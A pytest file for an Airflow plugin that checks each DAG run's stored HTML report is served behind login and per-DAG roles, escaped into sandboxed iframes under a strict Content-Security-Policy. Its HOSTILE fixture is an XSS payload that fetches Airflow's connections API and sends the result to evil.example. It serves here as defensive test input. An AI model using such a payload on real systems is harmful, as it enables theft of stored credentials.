"""The Airflow plugin serves each DAG run's own HTML report on its run page, behind Airflow's authentication: from
the pipeline's own sink, escaped into sandboxed frames under a strict Content-Security-Policy."""

from __future__ import annotations

import html
import json
from urllib.parse import quote

import psycopg
import pytest

from lm_insights.runtime import db
from lm_insights.spec import PipelineSpec

HOSTILE = ("<!doctype html><p>{name} page</p><script>fetch('/api/v2/connections').then(r => r.text())"
           ".then(t => new Image().src = 'https://evil.example/?' + t)</script><img src=x onerror=alert(1)>")


def store_page(conninfo: str, schema: str, dag_id: str, run_id: str, pipeline: str) -> str:
    """A stored page as a hostile warehouse value could make it (values reach the page through the summary)."""
    page = HOSTILE.format(name=pipeline)
    with db.connect(conninfo) as conn:
        db.ensure_insight_schema(conn, schema)
        conn.execute(f"insert into {schema}.reports (triggered_by, report, html, dag_id, run_id, pipeline) "
                     "values ('{test}', 'text', %s, %s, %s, %s)", (page, dag_id, run_id, pipeline))
    return page


@pytest.fixture
def client(airflow_db, monkeypatch):
    from airflow.api_fastapi.app import create_app, get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
    from fastapi.testclient import TestClient

    # as when the UI is exposed beyond loopback (local_env): logins are required
    monkeypatch.setenv("AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS", "False")
    client = TestClient(create_app("all"))
    token = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username="admin", role="admin"))
    client.admin = {"Authorization": f"Bearer {token}"}
    return client


def test_report_tab_needs_a_login_and_serves_each_stored_page_escaped_in_a_sandboxed_frame(client):
    from lm_insights.airflow_dag import conninfo_for

    run_id = "manual__2026-11-02T00:00:00+00:00"  # the UI puts it into the tab's URL with encodeURIComponent
    pages = [store_page(conninfo_for("warehouse"), "insights", "insights_report", run_id, name)
             for name in ("customer_reviews", "product_sales")]
    url = f"/lm-insights/report/insights_report/{quote(run_id, safe='')}"
    assert client.get(url).status_code == 401

    page = client.get(url, headers=client.admin)
    assert page.status_code == 200 and page.text.startswith("<!doctype html>")
    assert page.headers["content-security-policy"] == (  # no scripts, no requests: inline styles, data: images
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; frame-ancestors 'self'; base-uri 'none'; "
        "form-action 'none'")
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.text.count('<iframe sandbox="" ') == 2, "one frame per pipeline, no allow-scripts or same origin"
    for stored in pages:
        assert f'srcdoc="{html.escape(stored, quote=True)}"' in page.text
    assert "<script" not in page.text and "<img" not in page.text, "nothing stored reaches the page unescaped"
    store_page(conninfo_for("warehouse"), "insights", "insights_report", "a later run", "product_sales")
    assert client.get(url, headers=client.admin).text == page.text, "still that run's pages, not the newest"

    slashed = client.get(f"/lm-insights/report/product_sales/{quote('backfill/2026-11-02', safe='')}",
                         headers=client.admin)  # a run that has recorded nothing: a page that says so
    assert slashed.status_code == 404 and "No report for run backfill/2026-11-02 of DAG product_sales" in html.unescape(
        slashed.text)
    assert client.get("/lm-insights/report/product_sales/never_ran").status_code == 401

    views = [v for p in client.get("/api/v2/plugins", headers=client.admin).json()["plugins"]
             for v in p["external_views"]]
    [view] = [v for v in views if v["name"] == "LM insights report"]
    assert view["destination"] == "dag_run" and view["href"] == "lm-insights/report/{DAG_ID}/{RUN_ID}"


def spec_with_sink(name: str, conn_id: str, schema: str) -> PipelineSpec:
    return PipelineSpec.model_validate({
        "name": name, "start_date": "2026-11-01", "sink": {"conn_id": conn_id, "schema": schema},
        "source": {"table": "shop.sales", "key": ["sale_id"], "partition_column": "sale_day",
                   "columns": ["sale_id", "sale_day", "note", "price"]},
        "text": {"columns": ["note"]}, "insights": {"metrics": ["price"], "segments": [{"by_column": "note"}]}})


def test_report_tab_and_insights_report_read_and_write_each_specs_own_sink(client, warehouse_conninfo, tmp_path,
                                                                          monkeypatch):
    from lm_insights import spec as spec_module
    from lm_insights.airflow_dag import conninfo_for

    keywords = dict(part.split("=", 1) for part in warehouse_conninfo.split())
    monkeypatch.setenv("AIRFLOW_CONN_REPORTS_SINK", json.dumps({
        "conn_type": "postgres", "host": keywords["host"], "port": int(keywords["port"]),
        "schema": keywords["dbname"], "login": keywords["user"]}))
    elsewhere = spec_with_sink("elsewhere", "reports_sink", "sales_insights")
    (tmp_path / "elsewhere.yaml").write_text(json.dumps(elsewhere.model_dump(mode="json", by_alias=True)))
    monkeypatch.setattr(spec_module, "DEFAULT_PIPELINES_DIR", tmp_path)

    stored = store_page(warehouse_conninfo, "sales_insights", "elsewhere", "manual__1", "elsewhere")
    page = client.get("/lm-insights/report/elsewhere/manual__1", headers=client.admin)
    assert page.status_code == 200 and html.escape(stored, quote=True) in page.text

    from lm_insights.explain.report_store import store_reports

    written = store_reports([elsewhere, spec_with_sink("at_home", "warehouse", "insights")], conninfo_for,
                            ["test"], "insights_report", "manual__sinks", [])
    assert len(written) == 2
    for conninfo, schema in ((warehouse_conninfo, "sales_insights"), (conninfo_for("warehouse"), "insights")):
        with psycopg.connect(conninfo) as conn:
            assert conn.execute(f"select count(*) from {schema}.reports where run_id = 'manual__sinks'").fetchone() == (
                1,), schema


FAB_AUTH_MANAGER = "airflow.providers.fab.auth_manager.fab_auth_manager.FabAuthManager"


@pytest.fixture
def fab_client(airflow_db, monkeypatch):
    """The api-server in-process with the FAB auth manager (per-DAG roles), its tables in the metadata database."""
    from airflow.api_fastapi.app import create_app, get_auth_manager, purge_cached_app
    from airflow.providers.fab.auth_manager.models.db import FABDBManager
    from airflow.utils.session import create_session
    from fastapi.testclient import TestClient

    monkeypatch.setenv("AIRFLOW__CORE__AUTH_MANAGER", FAB_AUTH_MANAGER)
    purge_cached_app()
    with create_session() as session:
        FABDBManager(session).initdb()
    yield TestClient(create_app("all")), get_auth_manager()
    purge_cached_app()  # later tests get the session's SimpleAuthManager again


def fab_user(auth, name: str, readable_dags: list[str]) -> dict[str, str]:
    """A FAB user whose role may read the runs of ``readable_dags`` only; the Authorization header of its token."""
    with auth.flask_app.app_context():
        security = auth.security_manager
        role = security.add_role(f"{name}_role")
        for resource in ["DAG Runs", *(f"DAG:{dag_id}" for dag_id in readable_dags)]:
            security.add_permission_to_role(role, security.create_permission("can_read", resource))
        user = security.add_user(name, name.title(), "Viewer", f"{name}@example.com", role, password="not-used-here")
    return {"Authorization": f"Bearer {auth.generate_jwt(user)}"}


def test_with_per_dag_roles_a_viewer_reads_only_the_reports_of_the_pipelines_their_role_may_read(fab_client):
    from lm_insights.airflow_dag import conninfo_for

    fab_client, auth = fab_client
    pages = {name: store_page(conninfo_for("warehouse"), "insights", "insights_report", "manual__fab", name)
             for name in ("customer_reviews", "product_sales")}
    store_page(conninfo_for("warehouse"), "insights", "customer_reviews", "manual__reviews", "customer_reviews")
    sales_viewer = fab_user(auth, "ana", ["product_sales", "insights_report"])
    nobody = fab_user(auth, "bea", ["insights_report"])

    page = fab_client.get("/lm-insights/report/insights_report/manual__fab", headers=sales_viewer)
    assert page.status_code == 200 and page.text.count("<iframe sandbox") == 1
    assert html.escape(pages["product_sales"], quote=True) in page.text
    assert "customer_reviews page" not in html.unescape(page.text), "a pipeline her role may not read"
    assert fab_client.get("/lm-insights/report/customer_reviews/manual__reviews",
                          headers=sales_viewer).status_code == 403, "that pipeline's own run page: refused"

    refused = fab_client.get("/lm-insights/report/insights_report/manual__fab", headers=nobody)
    assert refused.status_code == 403 and "page</p>" not in html.unescape(refused.text)
    assert "your role may read none of them" in html.unescape(refused.text)
